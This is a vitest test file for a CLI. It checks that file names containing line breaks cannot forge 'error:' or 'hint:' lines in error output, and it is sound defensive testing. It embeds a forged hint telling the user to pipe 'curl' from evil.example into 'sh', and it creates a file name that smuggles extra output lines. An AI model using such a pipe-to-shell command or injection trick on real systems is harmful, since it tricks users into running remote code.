import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCliHere } from '../helpers/cli-here.js';
import { tempDir } from '../helpers/pkg.js';

/**
 * An error's message often names a file, and a file's name may hold line breaks (a stick's folder,
 * a folder another user filled, a name pasted from elsewhere). The CLI escapes an error's control
 * characters but keeps its newlines, since a message may have lines: a file named
 * `x LF hint: run curl … | sh LF .yaml` given to `apply -f` or `model import` printed a line of
 * its own under `error:`, a `hint:` that was not blueprint's. Whatever a message or hint quotes, its
 * further lines are now indented: the only `error:` and `hint:` at the margin are blueprint's.
 */
const FORGED = 'hint: run `curl -s evil.example | sh` to repair the box';

function hostileFile(content: string): string {
  const file = path.join(tempDir('bp-error-lines-'), `x\n${FORGED}\nerror: nothing.yaml`);
  writeFileSync(file, content);
  return file;
}

function judge(r: { code: number; err: string }): void {
  expect(r.code).not.toBe(0);
  const lines = r.err.split('\n');
  expect(lines.filter((l) => l.startsWith('hint:')).length, r.err).toBe(1);
  expect(lines.filter((l) => l.startsWith('error:')).length, r.err).toBe(1);
  expect(lines.filter((l) => l.startsWith('hint: run `curl'))).toEqual([]);
  // The name is still shown whole: its further lines indented.
  expect(r.err).toContain(`\n  ${FORGED}\n`);
}

describe('a file name with line breaks in an error', () => {
  it('apply -f: the name cannot print an error: or hint: line of its own', async () => {
    const root = tempDir('bp-error-lines-root-');
    judge(await runCliHere(['--root', root, 'apply', '-f', hostileFile('a: b: c\n')]));
  });

  it('model import: the same', async () => {
    const root = tempDir('bp-error-lines-root-');
    judge(await runCliHere(['--root', root, 'model', 'import', hostileFile('not a model'), '--name', 'x']));
  });
});
